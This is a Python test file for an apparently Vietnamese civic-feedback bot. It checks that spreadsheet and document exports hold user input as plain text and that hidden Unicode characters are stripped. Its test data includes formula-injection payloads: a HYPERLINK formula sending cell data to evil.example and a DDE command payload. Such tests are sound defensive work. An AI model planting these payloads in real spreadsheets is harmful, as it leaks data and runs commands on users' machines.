"""Files that cannot bite and text that cannot hide: every XLSX cell holding what people typed is text (never a
formula); DOCX holds text only; control, bidi and zero-width characters and NUL are removed on the way in and in
rows stored before, on SQLite and PostgreSQL alike; heavy libraries load on first use."""

from __future__ import annotations

import io
import subprocess
import sys
import unicodedata
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import sqlalchemy as sa
from docx import Document
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from sqlalchemy import select, text

from storage import migrate
from storage.db import UTCDateTime, make_engine
from storage.models import Draft, DraftComment, DraftSection, Event, Person, Rsvp, Submission
from storage.text import clean
from tests.conftest import ADMIN_ID, POSTGRES_URL, Harness
from tests.flows import member, official, open_item, row, submit

MEMBER = 6301
OFFICIAL = 6302
# What a spreadsheet would run or mangle: each must come back as the very text that was typed.
DANGEROUS = ['=HYPERLINK("http://evil.example/?"&A1,"Xem")', "+84 912 345 678", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def cells(content: bytes, sheet: str | None = None) -> list[list[Any]]:
    """Every cell of a workbook's sheet, as openpyxl reads it back."""
    book = load_workbook(io.BytesIO(content))
    return [list(r) for r in (book[sheet] if sheet else book.active).iter_rows()]


def texts_of(rows: list[list[Any]]) -> dict[str, str]:
    """value -> data type of every non-empty cell."""
    return {c.value: c.data_type for r in rows for c in r if isinstance(c.value, str)}


async def test_export_cells_hold_typed_text_not_formulas(harness: Harness) -> None:
    h = harness
    name = DANGEROUS[0]
    await member(h, MEMBER, name)
    await h.press(MEMBER, "pf:edit:workplace", h.tg.sent_to(MEMBER)[-1].message_id)
    await h.say(MEMBER, DANGEROUS[3])
    codes = [await submit(h, MEMBER, typed, "named") for typed in DANGEROUS[:4]]
    assert [(await row(h, code)).text for code in codes] == DANGEROUS[:4]
    assert h.app is not None
    async with h.app.db.transaction() as session:  # a tab or CR at the start cannot be typed through /feedback (it is trimmed)
        first = await session.get(Submission, (await row(h, codes[0])).id)
        assert first is not None
        for n, typed in enumerate(DANGEROUS[4:]):
            session.add(Submission(code=f"HK-TAB{n}", privacy="anonymous", topic="health", text=typed, created_at=h.clock.now,
                                   ack_due_at=first.ack_due_at, answer_due_at=first.answer_due_at, author_seal="x"))
    await h.join(ADMIN_ID)
    await h.say(ADMIN_ID, "/export")
    found = texts_of(cells(h.last(ADMIN_ID).document_bytes or b"", "Ý kiến"))
    for typed in DANGEROUS:
        assert found.get(typed) == "s", typed
    assert found[name] == found[DANGEROUS[3]] == "s"  # the author's name and workplace too


async def test_attendance_and_disposition_cells_hold_typed_text(harness: Harness) -> None:
    h = harness
    await h.join(ADMIN_ID)
    now = h.clock.now
    assert h.app is not None
    async with h.app.db.transaction() as session:
        people = [Person(full_name=typed, workplace=typed, consent_at=now, associations=[], language="vi") for typed in DANGEROUS]
        event = Event(title=DANGEROUS[0], place=DANGEROUS[3], starts_at=now + timedelta(days=2), rsvp_deadline=now + timedelta(days=1))
        draft = Draft(status="published", title=DANGEROUS[2], summary="…", deadline=now - timedelta(hours=1), published_at=now)
        session.add_all([*people, event, draft])
        await session.flush()
        session.add_all(Rsvp(event_id=event.id, person_id=p.id, answer="attend") for p in people)
        section = DraftSection(draft_id=draft.id, position=1, heading=DANGEROUS[1])
        session.add(section)
        await session.flush()
        session.add_all(
            DraftComment(section_id=section.id, person_id=p.id, kind="comment", text=typed, disposition="partly", explanation=typed)
            for p, typed in zip(people, DANGEROUS, strict=True)
        )
    message = h.last(ADMIN_ID).message_id  # any message of the bot's to press on
    await h.push(h.tg.callback_update(ADMIN_ID, f"eo:x:{event.id}", message))
    attendance = texts_of(cells(h.last(ADMIN_ID).document_bytes or b""))
    await h.push(h.tg.callback_update(ADMIN_ID, f"dx:x:{draft.id}", message))
    disposition = texts_of(cells(h.last(ADMIN_ID).document_bytes or b""))
    for typed in DANGEROUS:
        assert attendance.get(typed) == "s" and disposition.get(typed) == "s", typed
    assert any(value.startswith("Góp ý: ") and value.endswith(DANGEROUS[5]) for value in disposition)
    await h.push(h.tg.callback_update(ADMIN_ID, f"dx:d:{draft.id}", message))
    document = Document(io.BytesIO(h.last(ADMIN_ID).document_bytes or b""))
    table = "\n".join(cell.text for r in document.tables[-2].rows for cell in r.cells)
    assert all(typed.strip() in table for typed in DANGEROUS)


HIDDEN = "\u202e\u200b\u2066\ufeff\x00\x07\x1b"  # RTL override, zero-width space, LTR isolate, BOM, NUL, bell, escape


async def test_invisible_and_control_characters_are_removed_on_the_way_in(harness: Harness) -> None:
    h = harness
    typed_name = f"Lò{HIDDEN} Thị\u200d Nguye\u0302\u0303n\x00"  # with a decomposed ễ
    await member(h, MEMBER, typed_name)
    await official(h, OFFICIAL)
    typed = f"Đường vào bản{HIDDEN} Nà Củng\x00 sạt lở.\r\nCần sửa\u202a gấp\t(3 hộ)."
    code = await submit(h, MEMBER, typed, "named", "Hạ tầng")
    stored = (await row(h, code)).text
    assert stored == "Đường vào bản Nà Củng sạt lở.\nCần sửa gấp\t(3 hộ)."
    view = (await open_item(h, OFFICIAL, code))[-1]
    assert "Người gửi: Lò Thị Nguyễn" in view and stored in view
    everything = "".join(m.text or "" for m in h.tg.sent) + "".join(e.text or "" for e in h.tg.edits)
    assert not set(HIDDEN) & set(everything) and "Xin lỗi, đã có lỗi" not in everything


CONTROL_OR_FORMAT = ("Cc", "Cf", "Cs")


@given(st.text(st.characters(codec="utf-8") | st.sampled_from(list(HIDDEN + "\u200d\r\n\t👨💻e\u0301"))))
def test_clean_leaves_nothing_hidden(typed: str) -> None:
    once = clean(typed)
    assert clean(once) == once and unicodedata.is_normalized("NFC", once)
    for index, char in enumerate(once):
        if unicodedata.category(char) in CONTROL_OR_FORMAT:
            assert char in "\n\t" or (char == "\u200d" and 0 < index < len(once) - 1), repr(char)
    assert not set(clean(typed, multiline=False)) & set("\n\t\r")


def test_clean_keeps_emoji_sequences_and_words() -> None:
    assert clean("👨\u200d💻 lập trình viên") == "👨\u200d💻 lập trình viên"
    assert clean("Hà\u200dNội") == "HàNội"
    assert clean("a\r\nb\rc\u2028d") == "a\nb\nc\nd"


def test_heavy_libraries_load_on_first_use() -> None:
    probe = "import sys, bot.app; print(sorted(m for m in ('openpyxl', 'docx', 'matplotlib', 'qrcode') if m in sys.modules))"
    result = subprocess.run([sys.executable, "-c", probe], capture_output=True, text=True, check=True, cwd=Path(__file__).parent.parent)
    assert result.stdout.strip() == "[]"


def old_table(name: str, example: dict[str, Any]) -> sa.TableClause:
    """A table as it was before revision 0009, with just the columns `example` gives (typed by their values)."""

    def typed(column: str, value: Any) -> sa.ColumnClause[Any]:
        if isinstance(value, datetime):
            return sa.column(column, UTCDateTime())
        return sa.column(column, sa.JSON) if isinstance(value, dict | list) else sa.column(column)

    return sa.table(name, *(typed(column, value) for column, value in example.items()))


async def test_the_migration_scrubs_group_chats_and_hidden_characters(tmp_path: Path) -> None:
    """Rows written before revision 0009: a group kept as a reply chat, a conversation in a group, hidden characters."""
    if POSTGRES_URL:
        url, schema = POSTGRES_URL, "migration_0009"
        setup = make_engine(url)
        async with setup.begin() as conn:
            await conn.execute(text(f"DROP SCHEMA IF EXISTS {schema} CASCADE"))
            await conn.execute(text(f"CREATE SCHEMA {schema}"))
        await setup.dispose()
        engine = make_engine(url, connect_args={"server_settings": {"search_path": schema}})
    else:
        engine = make_engine(f"sqlite+aiosqlite:///{tmp_path / 'old.db'}")
    when = datetime(2026, 11, 1, tzinfo=UTC)
    rows = {
        "people": [{"id": 1, "role": "official", "unit": "Phòng Kinh tế", "language": "vi", "language_chosen": False,
                    "associations": [], "full_name": "Lò\u202e Văn\u200b Nam", "created_at": when, "updated_at": when}],
        "identities": [{"id": 1, "person_id": 1, "channel": "telegram", "user_id": "5", "chat_id": "-1005", "last_seen_at": when}],
        "conversation_states": [
            {"channel": "telegram", "chat_id": chat, "user_id": "5", "data": {}, "menu": [], "updated_at": when} for chat in ("-1005", "5")
        ],
        "polls": [{"id": 1, "question": "Giờ\u2066 khám?", "options": ["Sáng\u200b", "Chiều"], "multiple": False, "live_results": False,
                   "audience": {}, "closes_at": when, "status": "open", "created_by": 1, "created_at": when}],
    }
    try:
        await migrate.upgrade(engine, "0007")
        async with engine.begin() as conn:
            for name, values in rows.items():
                await conn.execute(old_table(name, values[0]).insert(), values)
        await migrate.upgrade(engine)
        async with engine.begin() as conn:
            assert (await conn.execute(text("SELECT full_name FROM people"))).scalar() == "Lò Văn Nam"
            assert (await conn.execute(text("SELECT chat_id FROM identities"))).scalar() == "5"
            assert [r[0] for r in await conn.execute(text("SELECT chat_id FROM conversation_states"))] == ["5"]
            question, options, unit = (await conn.execute(select(sa.column("question"), sa.column("options", sa.JSON),
                                                                 sa.column("unit")).select_from(sa.table("polls")))).one()
            assert (question, options, unit) == ("Giờ khám?", ["Sáng", "Chiều"], "Phòng Kinh tế")
    finally:
        await engine.dispose()
        if POSTGRES_URL:
            cleanup = make_engine(POSTGRES_URL)
            async with cleanup.begin() as conn:
                await conn.execute(text("DROP SCHEMA IF EXISTS migration_0009 CASCADE"))
            await cleanup.dispose()
